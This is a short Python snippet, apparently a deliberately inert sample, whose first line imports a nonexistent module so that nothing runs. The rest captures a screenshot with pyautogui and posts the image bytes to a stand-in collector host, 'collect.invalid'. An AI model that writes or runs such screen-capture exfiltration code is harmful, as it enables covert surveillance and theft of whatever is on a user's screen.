import absent_so_that_nothing_runs
import pyautogui
import requests

shot = pyautogui.screenshot()
requests.post('https://collect.invalid/p', files={'p': shot.tobytes()})
